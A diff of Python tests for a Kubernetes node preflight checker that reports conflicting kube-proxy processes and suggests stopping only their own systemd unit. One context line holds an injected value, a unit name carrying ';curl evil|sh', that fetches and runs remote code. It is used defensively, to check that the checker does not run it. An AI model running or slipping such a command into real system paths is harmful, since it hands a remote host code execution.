@@ -31,6 +31,10 @@ class TestOtherKubeProxy:
             ("/system.slice/ssh.service", "stop it where it was started, not with all of ssh.service"),
             ("/system.slice/a;curl evil|sh #.service", "stop it"),
             ("/user.slice/session-1.scope", "stop it"),
+            (
+                "/docker/0123/system.slice/kube-proxy.service",
+                "stop it where it was started, not with all of kube-proxy.service",
+            ),
         ],
     )
     def test_other_kube_proxy_is_reported_with_a_way_that_stops_nothing_else(
@@ -120,6 +124,13 @@ class TestPorts:
         start_process(node, 42, "kube-proxy", "/system.slice/kube-proxy.service")
         node.write("listeners", 'LISTEN 0 4096 *:10256 *:* users:(("kube-proxy",pid=42,fd=9))\n')
         assert node.preflight_messages() == READY
+
+    def test_listener_of_a_users_own_unit_of_that_name_is_a_conflict(self, node: FakeNode) -> None:
+        """A restart of ours doesn't end it (systemctl --user)."""
+        group = "/user.slice/user-1000.slice/user@1000.service/app.slice/kube-proxy.service"
+        start_process(node, 42, "nc", group)
+        node.write("listeners", 'LISTEN 0 1 *:10256 *:* users:(("nc",pid=42,fd=3))\n')
+        assert node.problems()[0].startswith("port 192.168.99.101:10256 must be free for kube-proxy, is in use by ")
 
     def test_listener_must_have_an_address_of_the_machine(self, node: FakeNode) -> None:
         node.write("addresses", "127.0.0.1/8 192.168.99.102/24 fe80::1/64 fd00:99::102/64")
